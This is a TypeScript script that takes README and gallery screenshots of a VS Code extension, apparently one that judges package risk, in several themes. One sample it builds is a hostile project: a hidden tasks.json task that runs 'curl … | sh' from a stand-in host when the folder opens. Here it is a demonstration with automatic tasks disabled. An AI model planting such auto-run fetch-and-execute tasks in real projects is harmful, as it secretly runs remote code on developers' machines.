// `npm run screenshots [-- dark|light|contrast …]`: the README's pictures and those of the gallery, of the example project as the
// real registry answers today. With themes named, only the gallery's in these.
import { cp, mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import process from 'node:process';
import type { Locator, Page } from 'playwright-core';
import { PROJECT_ROOT } from './build/project-root.js';
import { takeGallery, takeRepository, type TakePicture } from './gallery-pictures.js';
import { newestBuild } from './vscode/builds.js';
import { ensureChromium } from './vscode/chromium.js';
import { type Cleanup, withCleanup } from './vscode/cleanup.js';
import { pathWithoutNpm } from './vscode/hide-npm.js';
import { installVscode } from './vscode/install-vscode.js';
import { startVscodeServer } from './vscode/vscode-server.js';
import { addExtension } from './vscode/web-editor.js';
import { windowControl } from './vscode/window-control.js';
import { openBrowser, workbenchUrl } from './vscode/workbench.js';

const TARGET = path.join(PROJECT_ROOT, 'media', 'screenshots');

const THEMES = {
  dark: 'Default Dark Modern',
  light: 'Default Light Modern',
  contrast: 'Default High Contrast',
} as const;
type Theme = keyof typeof THEMES;

/** Little but the editor. */
const SETTINGS = {
  'workbench.activityBar.location': 'hidden',
  'workbench.layoutControl.enabled': false,
  'workbench.editor.showTabs': 'single',
  'window.commandCenter': false,
  'window.menuBarVisibility': 'hidden',
  'breadcrumbs.enabled': false,
  'editor.minimap.enabled': false,
  'editor.fontSize': 14,
  'editor.occurrencesHighlight': 'off',
  'editor.lightbulb.enabled': 'off',
  'editor.hover.above': false,
  'npm.fetchOnlinePackageInfo': false,
  // What the picture of a hostile folder shows is not to run.
  'task.allowAutomaticTasks': 'off',
};

/** In CSS pixels; sharp on screens with two device pixels for each. */
const SIZE = { width: 1100, height: 860, scale: 2 };
/** There are many of them, and nobody prints them. */
const GALLERY_SIZE = { ...SIZE, width: 1000, scale: 1 };

/** Makes what is opened in an empty folder, and says which of its files is shown. */
type Content = (folder: string) => Promise<string>;

async function example(folder: string): Promise<string> {
  await cp(path.join(PROJECT_ROOT, 'examples', 'shop'), folder, { recursive: true });
  return 'package.json';
}

/** A task for an applicant, as they have been handed out; what it fetches is nowhere. */
async function hostileTask(folder: string): Promise<string> {
  const [file, scripts] = ['.vscode/tasks.json', { start: 'node server.js', test: 'mocha' }];
  const command = 'curl -fsSL https://tools.shop.invalid/setup.sh | sh';
  const presentation = { reveal: 'never', echo: false };
  const task = { label: 'env', type: 'shell', command, presentation, runOptions: { runOn: 'folderOpen' } };
  await mkdir(path.join(folder, '.vscode'), { recursive: true });
  await writeFile(path.join(folder, file), `${JSON.stringify({ version: '2.0.0', tasks: [task] }, undefined, 2)}\n`);
  await writeFile(path.join(folder, 'package.json'), `${JSON.stringify({ name: 'task', scripts }, undefined, 2)}\n`);
  await writeFile(path.join(folder, 'server.js'), "console.log('a shop');\n");
  return file;
}

async function openWindow(cleanup: Cleanup, theme: Theme, size: typeof SIZE, content: Content): Promise<Page> {
  const say = (message: string): void => console.log(message);
  const chromium = await ensureChromium(say);
  const installation = await installVscode(newestBuild(), say);
  const scratch = await mkdtemp(path.join(os.tmpdir(), 'package-risk-screenshots-'));
  cleanup.add(() => rm(scratch, { recursive: true, force: true, maxRetries: 5, retryDelay: 100 }));
  const workspace = path.join(scratch, 'shop');
  const file = await content(workspace);
  await addExtension(scratch, PROJECT_ROOT);
  const env = { PATH: await pathWithoutNpm(scratch) };
  const settings = { ...SETTINGS, 'workbench.colorTheme': THEMES[theme] };
  const server = await startVscodeServer(installation, { dataFolder: scratch, settings, env }, cleanup);
  const page = await openBrowser({ executable: chromium, ...size }, cleanup);
  await page.goto(workbenchUrl(server, { workspace, file: path.join(workspace, file) }));
  return page;
}

/** Until there are problems, and nothing is asked any more. */
async function judged(page: Page): Promise<void> {
  await page.locator('.squiggly-error').first().waitFor({ state: 'attached', timeout: 120_000 });
  const { statusLabel } = windowControl(() => page);
  for (let label = await statusLabel(); !label.includes('risk:') || label.includes('Checking');) {
    await page.waitForTimeout(250);
    label = await statusLabel();
  }
}

/** A dependency's name in the editor; one that leads to its page is painted without its quotes. */
function nameOf(page: Page, dependency: string): Locator {
  return page.locator('.view-line span', { hasText: new RegExp(`^"?${dependency}"?$`) }).first();
}

/** @param height of the part that is worth looking at, from the top */
async function takePicture(
  page: Page,
  name: string,
  height: number = SIZE.height,
  width: number = SIZE.width,
): Promise<void> {
  // Fading in is over by then; nothing else moves.
  await page.waitForTimeout(700);
  const clip = { x: 0, y: 0, width, height };
  await page.screenshot({ path: path.join(TARGET, `${name}.png`), clip, animations: 'disabled' });
  console.log(path.join('media', 'screenshots', `${name}.png`));
}

async function main(page: Page): Promise<void> {
  await judged(page);
  await page.keyboard.press('Control+B');
  await page.keyboard.press('Control+Shift+M');
  await page.locator('.markers-panel .monaco-list-row, .markers-panel .monaco-table-tr').first().waitFor();
  await page.keyboard.press('Control+1');
  await takePicture(page, 'editor');
  await page.keyboard.press('Control+J');
  await nameOf(page, 'lodash').hover();
  await page.locator('.monaco-hover .hover-row').first().waitFor();
  await takePicture(page, 'hover', 580);
  await page.keyboard.press('Escape');
  await nameOf(page, 'lodash').click();
  await page.keyboard.press('Control+.');
  await page.locator('.action-widget .monaco-list-row').first().waitFor();
  await takePicture(page, 'quick-fix', 560);
}

function intoGallery(page: Page): TakePicture {
  return (name, height) => takePicture(page, path.join('gallery', name), height, GALLERY_SIZE.width);
}

async function gallery(page: Page, theme: Theme): Promise<void> {
  await judged(page);
  await page.keyboard.press('Control+B');
  await page.keyboard.press('Control+1');
  await takeGallery(page, theme, intoGallery(page));
}

const named = process.argv.slice(2).filter((one): one is Theme => one in THEMES);
await mkdir(path.join(TARGET, 'gallery'), { recursive: true });
if (named.length === 0) await withCleanup(async (cleanup) => main(await openWindow(cleanup, 'dark', SIZE, example)));
for (const theme of named.length === 0 ? (Object.keys(THEMES) as Theme[]) : named) {
  await withCleanup(async (cleanup) => gallery(await openWindow(cleanup, theme, GALLERY_SIZE, example), theme));
  await withCleanup(async (cleanup) => {
    const page = await openWindow(cleanup, theme, GALLERY_SIZE, hostileTask);
    await takeRepository(page, theme, intoGallery(page));
  });
}
